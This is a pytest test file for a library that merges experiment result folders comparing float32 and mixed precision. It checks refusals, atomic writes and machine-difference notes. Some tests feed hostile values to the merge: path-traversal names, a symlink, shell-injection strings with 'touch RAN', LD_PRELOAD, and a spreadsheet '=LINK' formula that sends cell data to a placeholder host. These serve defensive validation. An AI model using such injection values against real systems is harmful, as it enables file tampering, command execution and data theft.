"""Folders that were made apart: what is put together, and what is refused."""

import csv
import json
import shutil

import numpy as np
import pytest
from lab_blobs import blobs, clouds
from refusals import refuses
from terminals import call

import minifp as fp
from minifp import lab
from minifp.errors import DataError
from minifp.lab.evaluation import evaluate
from minifp.lab.results import store
from minifp.report.csv_text import csv_text
from minifp.saving import files

BOTH = ("float32", "mixed")
pytestmark = pytest.mark.usefixtures("no_pictures")


def keeping(state, test_set):
    found = evaluate(blobs(), state, test_set)
    return {**found.metrics, "loss": found.loss, "words": "seen", "ones": np.ones(2)}


def made(folder, precisions=BOTH, seeds=2, **changes):
    task = blobs(**{"steps": 12, "evaluate": keeping, **changes})
    fp.compare(task, precisions, seeds, out=folder, progress=False)
    return folder


@pytest.fixture(scope="module")
def halves(tmp_path_factory):
    """Seeds 0 and 1 in one folder, 1 and 2 in another: seed 1 was made twice."""
    folder = tmp_path_factory.mktemp("halves")
    return made(folder / "a"), made(folder / "b", seeds=[1, 2])


@pytest.fixture
def other(halves, tmp_path):
    return shutil.copytree(halves[1], tmp_path / "other")


def changed(folder, precision="mixed", seed=1, /, **fields):
    path = store.run_path(folder, precision, seed)
    held = json.loads(path.read_text(encoding="utf-8"))
    held["run"].update(fields)
    path.write_text(json.dumps(held), encoding="utf-8")
    return folder


def test_the_whole_is_what_one_call_makes(halves, tmp_path):
    whole = lab.merge(*halves, out=tmp_path / "whole")
    at_once = fp.Comparison.load(made(tmp_path / "at once", seeds=3))
    for merged in (whole, fp.Comparison.load(tmp_path / "whole")):
        assert (merged.precisions, merged.seeds) == (at_once.precisions, [0, 1, 2])
        assert sorted(merged.asked) == sorted(at_once.asked) and not merged.missing()
        assert [r.verdict for r in merged.rows()] == [r.verdict for r in at_once.rows()]
    files_of = [
        {p.relative_to(f).as_posix() for p in f.rglob("*") if p.is_file()}
        for f in (tmp_path / "whole", tmp_path / "at once")
    ]
    assert files_of[0] == files_of[1] >= {"report.html", "runs/mixed,seed=2/words.txt"}
    assert lab.merge(tmp_path / "whole", tmp_path / "at once").done() == at_once.done()
    before = sorted(p.name for p in (tmp_path / "whole" / "runs").iterdir())
    made(tmp_path / "whole", seeds=4)  # and compare goes on from there
    assert len(before) == 3 * 6 and len(fp.Comparison.load(tmp_path / "whole").runs) == 8


def test_other_settings_or_data_are_refused_by_name(tmp_path):
    first = made(tmp_path / "first", ["float32"], 1, evaluate=None)
    for i, (changes, named) in enumerate((
        ({"steps": 13}, r"steps is 12 in .*first and 13 in .*second"),
        ({"batch_size": 8}, "batch size is 16 in .* and 8 in"),
        ({"margin": 0.25}, "margin is 0.5 in .* and 0.25 in"),
        ({"dial": 3}, "dial is 0 in .* and 3 in"),
        ({"accumulate": 2}, "accumulated batches is None in .* and 2 in"),
        ({"data": lambda: (clouds(160, 7), clouds(80, 2))}, "training data is 'clouds, 160 ex"),
    )):  # fmt: skip
        second = made(tmp_path / f"second{i}", ["float32"], [1], evaluate=None, **changes)
        refuses(fp.ArgumentError, named, lab.merge, first, second, out=tmp_path / "whole")
        assert not (tmp_path / "whole").exists()


def test_a_run_with_other_results_is_refused_with_what_to_do(halves, other):
    for fields, named in (
        ({"metric": 12.5}, "metric differ"),
        ({"steps": 11, "status": "stopped"}, "status, metric, steps differ"),
    ):
        changed(other, **fields)
        told = rf"mixed, seed 1 .*{named}.*runs.mixed,seed=1.json"
        refuses(fp.ArgumentError, told, lab.merge, halves[0], other)


def test_weights_and_kept_files_must_be_the_same_too_but_not_times(halves, other):
    assert lab.merge(halves[0], changed(other, seconds=99.0, seconds_per_step=9.0)).runs
    (other / "runs" / "mixed,seed=1" / "words.txt").write_text("others", encoding="utf-8")
    refuses(fp.ArgumentError, "words differ", lab.merge, halves[0], other)
    path = other / "runs" / "mixed,seed=1.npz"
    with np.load(path) as held:
        arrays = {**held, "weights": held["weights"] + 1}
    np.savez(path, **arrays)
    refuses(fp.ArgumentError, "weights and outputs, words differ", lab.merge, halves[0], other)


@pytest.mark.parametrize("fields", [
    {"kept": {"words": "../../mine.txt"}}, {"kept": {"words": "runs/mixed,seed=1.json"}},
    {"precision": "../../../mine"}, {"precision": "--out=elsewhere"}, {"seed": "../2"}, {},
    {"variables": {"X=1; touch RAN; Y": "1"}}, {"variables": {"LD_PRELOAD": "a.so"}},
    {"task": "--out=elsewhere"}, {"commit": "x\ntouch RAN"},
])  # fmt: skip
def test_names_of_another_are_no_paths_and_no_text_of_a_shell(halves, other, tmp_path, fields):
    (tmp_path / "mine.txt").write_text("mine", encoding="utf-8")
    if not fields:  # a link in place of a file
        place = other / "runs" / "mixed,seed=2" / "words.txt"
        place.unlink()
        place.symlink_to(tmp_path / "mine.txt")
    elif {*fields} & {"variables", "task", "commit"}:
        held = json.loads((other / "results.json").read_text(encoding="utf-8"))
        held["origin"].update(fields)
        (other / "results.json").write_text(json.dumps(held), encoding="utf-8")
        fields = {}
    with pytest.raises(DataError, match="the file was edited|expected a file in it|expected"):
        lab.merge(halves[0], changed(other, "mixed", 2, **fields), out=tmp_path / "deep" / "whole")
    assert not (tmp_path / "deep").exists()


def test_no_text_of_another_is_a_formula_of_a_spreadsheet(halves, other, tmp_path):
    changed(other, "mixed", 2, note='=LINK("http://e/?"&A1)', made={"@SUM(1+1)": "x"})
    lab.merge(halves[0], other, out=tmp_path / "whole")
    text = (tmp_path / "whole" / "runs.csv").read_text(encoding="utf-8")
    assert ",\"'=LINK(" in text and ",'@SUM(1+1): x" in text
    cells = ["+1", "-inf", -2.5, None, "\t=1", "-a", "a=b"]
    assert csv_text([cells]) == "+1,-inf,-2.5,,'\t=1,'-a,a=b\n"


def test_nothing_is_left_of_a_merge_that_fails(halves, tmp_path, monkeypatch):
    def full(contents):
        write_all(dict(list(contents.items())[:3]))
        raise fp.FileError("no space left")

    write_all = files.write_all
    monkeypatch.setattr(files, "write_all", full)
    (tmp_path / "whole").mkdir()
    for out in (tmp_path / "whole", tmp_path / "new" / "folder"):
        refuses(fp.FileError, "no space left", lab.merge, *halves, out=out)
    assert [p.name for p in tmp_path.rglob("*")] == ["whole"]


def test_what_is_there_already_is_not_touched(halves, tmp_path):
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(fp.ArgumentError, match="is there already: expected a folder that is new"):
        lab.merge(*halves, out=tmp_path)
    for wrong in ((), (halves[0],), (halves[0], halves[0])):
        refuses(fp.ArgumentError, "expected two folders or more, each once", lab.merge, *wrong)


def test_another_machine_is_named(halves, other, tmp_path):
    path = other / "results.json"
    held = json.loads(path.read_text(encoding="utf-8"))
    held["environment"]["NumPy"] = "9.9"
    path.write_text(json.dumps(held), encoding="utf-8")
    lab.merge(halves[0], other, out=tmp_path / "whole")
    told = f"2 of 6 runs ran on another machine: NumPy 9.9 instead of {np.__version__}."
    assert told in fp.Comparison.load(tmp_path / "whole").notes()
    with open(tmp_path / "whole" / "runs.csv", newline="", encoding="utf-8") as file:
        marked = [row["seed"] for row in csv.DictReader(file) if "NumPy 9.9" in row["made"]]
    assert marked == ["2", "2"]
    assert lab.merge(*halves).notes() == [n for n in lab.merge(*halves).notes() if "made" not in n]


def test_the_command_says_what_it_found(halves, other, tmp_path):
    result = call("merge", *halves, "--out", tmp_path / "whole", "--figures", "none")
    assert result.exit_code == 0, result.output
    assert "6 runs in all, 2 of them twice, with the same bits." in result.output
    assert f"Report: {tmp_path / 'whole' / 'report.html'}" in result.output
    assert (tmp_path / "whole" / "report.html").is_file()
    result = call("merge", halves[0], changed(other, metric=1.0))
    assert result.exit_code == 2 and "metric differ" in result.output
